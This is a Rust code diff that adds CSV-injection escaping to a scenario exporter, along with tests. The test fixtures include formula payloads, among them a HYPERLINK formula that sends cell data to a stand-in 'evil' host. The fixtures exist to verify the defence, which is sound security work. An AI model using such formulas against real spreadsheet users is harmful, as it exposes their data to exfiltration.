@@ -5,6 +5,10 @@
 //! the header. Expected actions are one per line within their cell. Import of the output gives
 //! an equal scenario as long as no expected action contains a `;` or a line break (the
 //! spreadsheet form's separators).
+//!
+//! Every cell goes through [`spreadsheet_safe`]: a cell a spreadsheet would run as a formula
+//! (one that starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written with a
+//! leading `'`, which [`crate::import_csv`] removes again (README.md, "CSV and spreadsheets").
 
 use crate::msel::Scenario;
 use crate::time::format_at;
@@ -24,6 +28,37 @@ pub const EXPORT_HEADERS: [&str; 12] = [
     "Controller notes",
     "Contingency",
 ];
+
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP "CSV
+/// injection"): `=`, `+`, `-`, `@`, and tab and carriage return, which some spreadsheets skip
+/// before looking for the others.
+pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `value` as a CSV cell that no spreadsheet runs as a formula: prefixed with `'` when it starts
+/// with one of [`FORMULA_STARTS`] or with `'` itself (so that [`from_spreadsheet_safe`] can
+/// tell an added quote from one that was there), otherwise unchanged.
+pub fn spreadsheet_safe(value: &str) -> std::borrow::Cow<'_, str> {
+    match value.chars().next() {
+        Some(c) if c == '\'' || FORMULA_STARTS.contains(&c) => format!("'{value}").into(),
+        _ => value.into(),
+    }
+}
+
+/// The value [`spreadsheet_safe`] wrote `cell` for: one leading `'` is removed when the next
+/// character is one it escapes. A cell typed by hand as `'note` stays as it is.
+pub fn from_spreadsheet_safe(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest)
+            if rest
+                .chars()
+                .next()
+                .is_some_and(|c| c == '\'' || FORMULA_STARTS.contains(&c)) =>
+        {
+            rest
+        }
+        _ => cell,
+    }
+}
 
 /// The scenario as CSV.
 pub fn export_csv(s: &Scenario) -> String {
@@ -49,7 +84,7 @@ pub fn export_csv(s: &Scenario) -> String {
     for i in s.injects() {
         let at = format_at(i.at_s);
         let expected = i.expected.join("\n");
-        let _ = w.write_record([
+        let row = [
             i.id.as_str(),
             &at,
             i.move_id.as_str(),
@@ -62,7 +97,8 @@ pub fn export_csv(s: &Scenario) -> String {
             i.objective.as_deref().unwrap_or(""),
             i.notes.as_deref().unwrap_or(""),
             if i.contingency { "yes" } else { "no" },
-        ]);
+        ];
+        let _ = w.write_record(row.map(spreadsheet_safe).iter().map(|c| c.as_bytes()));
     }
     let bytes = w.into_inner().unwrap_or_default();
     String::from_utf8(bytes).unwrap_or_default()
@@ -85,6 +121,59 @@ mod tests {
             csv.starts_with("\"# title: T, with comma\"\n# description: D\n"),
             "{csv}"
         );
+        assert_eq!(import_csv(&csv).unwrap(), s, "{csv}");
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_and_read_back() {
+        for (value, cell) in [
+            ("=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'=HYPERLINK"),
+            ("+1", "'+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM"),
+            ("\t=1", "'\t=1"),
+            ("'quoted", "''quoted"),
+            ("plain", "plain"),
+            ("", ""),
+        ] {
+            assert!(spreadsheet_safe(value).starts_with(cell), "{value:?}");
+            assert_eq!(from_spreadsheet_safe(&spreadsheet_safe(value)), value);
+        }
+        assert_eq!(from_spreadsheet_safe("'note"), "'note", "typed by hand");
+        let text = r#"
+[scenario]
+title = "T"
+[[move]]
+id = "M1"
+title = "One"
+[[inject]]
+id = "a"
+at = 5
+move = "M1"
+channel = "x"
+title = "@cmd"
+text = '=HYPERLINK("http://evil/"&A1,"click")'
+objective = "+1"
+notes = "'- note"
+expected = ["-do it"]
+"#;
+        let s = Scenario::from_toml(text).unwrap();
+        let csv = export_csv(&s);
+        let rows: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(csv.as_bytes())
+            .records()
+            .map(Result::unwrap)
+            .collect();
+        let row = rows.last().unwrap();
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(FORMULA_STARTS),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+        assert_eq!(&row[7], "'=HYPERLINK(\"http://evil/\"&A1,\"click\")");
         assert_eq!(import_csv(&csv).unwrap(), s, "{csv}");
     }
 }
